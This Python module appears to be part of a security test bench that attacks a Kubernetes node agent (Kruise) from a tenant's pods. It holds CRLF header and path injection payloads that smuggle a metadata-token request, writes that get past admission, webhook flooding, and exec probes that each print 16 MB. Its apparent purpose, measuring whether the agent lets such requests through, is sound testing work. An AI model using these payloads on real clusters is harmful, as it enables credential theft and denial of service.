"""Attacks of a user whose pods run on a node on the node's agent: probes and hooks with hidden content.

Target ──▶ http_heads(): headers and paths with line ends, to a service that counts the requests
       ──▶ probe_output(): commands that print 16 MB each

The pods are those of lone_node.py. Objects that admission rejects are stored without a webhook. Values that the
manager does not pass on to the agent are written to the objects that the agent reads.
"""

import asyncio
from collections.abc import Mapping, Sequence
from contextlib import suppress
from typing import Any, Final

from bench.attack_target import (
    HOST,
    NODE,
    UNREVIEWED,
    Target,
    connected,
    head,
    repeated,
    store,
    stored_meanwhile,
    storing,
)
from pykruise.agent.rules.probe_checks import NODE_POD_PROBES
from pykruise.agent.rules.recreations import REQUESTS
from pykruise.kube.client.client import Client
from pykruise.kube.documents import Document, decode
from pykruise.kube.errors import KubeError
from pykruise.kube.resources import PODS
from pykruise.pods.probes.api import POD_PROBE_MARKERS
from support.reviews import posted, request

__all__ = ["FLOOD", "REPORTED", "REQUESTED", "SMUGGLED", "http_heads", "probe_output"]

HOSTILE: Final = "app=hostile"
PROBES: Final = 8
"""Number of probes of each pod."""
FLOOD: Final = "/flood"
"""The command that prints 16 MB."""
SMUGGLED: Final = "requests smuggled"
"""The words under which requests are counted that no probe may send."""
REQUESTED: Final = "requests of probes and hooks"
REPORTED: Final = "results of probes that print 16 MB"
_SECOND: Final = "PUT /latest/api/token HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
_AFTER_HEAD: Final = f"a\r\n\r\n{_SECOND}"
_IN_PATH: Final = f"/ HTTP/1.1\r\nHost: x\r\n\r\n{_SECOND}"


async def probe_output(target: Target) -> None:
    """Eight probes of each hostile pod, once a second, and each prints 16 MB."""
    probes = [_probe(number, {"exec": {"command": [FLOOD]}}) for number in range(PROBES)]
    objects = [(POD_PROBE_MARKERS, _marker("flood", probes))]
    async with storing(target) as client, stored_meanwhile(client, objects):
        while True:
            doc = decode(await client.get(NODE_POD_PROBES, "", NODE))
            pods = (doc.get("status") or {}).get("podProbeStatuses") or ()
            states = [state for pod in pods for state in pod.get("probeStates") or ()]
            if number := sum(state["name"].startswith("flood#") for state in states):
                target.counts[REPORTED] = number
            await asyncio.sleep(0.3)


async def http_heads(target: Target) -> None:
    """Probes and hooks of the hostile pods with line ends in headers and paths, and reviews of such probes."""
    service = await asyncio.start_server(_counting(target), HOST, 0)
    port = service.sockets[0].getsockname()[1]
    asked = [
        {"path": "/honest"},
        {"path": "/", "httpHeaders": [{"name": "X-A", "value": _AFTER_HEAD}]},
        {"path": "/", "httpHeaders": [{"name": f"X-A: {_AFTER_HEAD}", "value": "a"}]},
        {"path": _IN_PATH},
    ]
    gets = [{"host": HOST, "port": port, "scheme": "HTTP", **item} for item in asked]
    probes = [_probe(number, {"httpGet": get}) for number, get in enumerate(gets)]
    body = _review(probes)
    objects = [(POD_PROBE_MARKERS, _marker("heads", probes))]
    async with (
        service,
        storing(target) as client,
        stored_meanwhile(client, objects),
        asyncio.TaskGroup() as tasks,
    ):
        tasks.create_task(_recreate_again(client, gets))
        tasks.create_task(repeated(1, lambda: _post(target, body)))
        tasks.create_task(_put_into_node(client, probes))


def _counting(target: Target) -> Any:
    """A service in the node's network that responds, and counts requests by whether a probe may send them."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while line := await reader.readline():
                words = line.split()
                if len(words) == 3 and words[2].startswith(b"HTTP/"):
                    is_probe = words[0] == b"GET"
                    target.counts[REQUESTED if is_probe else SMUGGLED] += 1
                if line == b"\r\n":
                    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        except (OSError, ValueError):
            return
        finally:
            writer.close()

    return serve


async def _put_into_node(client: Client, probes: Sequence[Document]) -> None:
    """The probes at the agent itself, as an older manager passed them on; the current manager removes them."""
    while True:
        pods = [decode(raw) for raw in (await client.list(PODS, UNREVIEWED, label_selector=HOSTILE)).items]
        entries = [
            {
                "name": pod["metadata"]["name"],
                "namespace": UNREVIEWED,
                "uid": pod["metadata"]["uid"],
                "IP": HOST,
                "probes": [
                    {"name": f"heads#{probe['name']}", "containerName": "app", "probe": probe["probe"]}
                    for probe in probes
                ],
            }
            for pod in pods
        ]
        with suppress(KubeError):  # the manager or the agent has written it meanwhile
            doc = decode(await client.get(NODE_POD_PROBES, "", NODE))
            others = [
                probe for probe in doc["spec"].get("podProbes") or () if probe["namespace"] != UNREVIEWED
            ]
            await client.update(
                NODE_POD_PROBES, "", NODE, {**doc, "spec": {"podProbes": [*others, *entries]}}
            )
        await asyncio.sleep(0.3)


async def _recreate_again(client: Client, gets: Sequence[Mapping[str, Any]]) -> None:
    """Requests whose hooks have such paths and headers, sequentially."""
    number = 0
    while True:
        listed = await client.list(PODS, UNREVIEWED, label_selector=HOSTILE)
        for pod in map(decode, listed.items):
            number += 1
            await store(client, REQUESTS, UNREVIEWED, _recreation(number, pod, gets[number % len(gets)]))
        await asyncio.sleep(2)


def _recreation(number: int, pod: Document, get: Mapping[str, Any]) -> Document:
    status = pod["status"]["containerStatuses"][0]
    container = {
        "name": status["name"],
        "preStop": {"httpGet": get},
        "statusContext": {"containerID": status["containerID"], "restartCount": status["restartCount"]},
    }
    labels = {
        "crr.apps.kruise.io/node-name": NODE,
        "crr.apps.kruise.io/pod-uid": pod["metadata"]["uid"],
        "crr.apps.kruise.io/active": "true",
    }
    spec = {
        "podName": pod["metadata"]["name"],
        "containers": [container],
        "strategy": {"failurePolicy": "Fail"},
        "activeDeadlineSeconds": 5,
        "ttlSecondsAfterFinished": 1,
    }
    return {"metadata": {"name": f"heads-{number}", "labels": labels}, "spec": spec}


def _probe(number: int, handler: Mapping[str, Any]) -> Document:
    return {
        "name": f"probe-{number}",
        "containerName": "app",
        "podConditionType": f"attack.io/probe-{number}",
        "probe": {**handler, "periodSeconds": 1},
    }


def _marker(name: str, probes: Sequence[Document]) -> Document:
    spec = {"selector": {"matchLabels": {"app": "hostile"}}, "probes": list(probes)}
    return {"metadata": {"name": name, "namespace": UNREVIEWED}, "spec": spec}


def _review(probes: Sequence[Document]) -> bytes:
    doc = {
        "apiVersion": POD_PROBE_MARKERS.api_version,
        "kind": POD_PROBE_MARKERS.kind,
        **_marker("heads", probes),
    }
    return posted(request(POD_PROBE_MARKERS, doc))


async def _post(target: Target, body: bytes) -> None:
    reader, writer = await connected(target.webhook, target)
    try:
        writer.write(head("/validate-apps-kruise-io-podprobemarker", len(body)) + body)
        await reader.readuntil(b"\r\n\r\n")
    finally:
        writer.close()
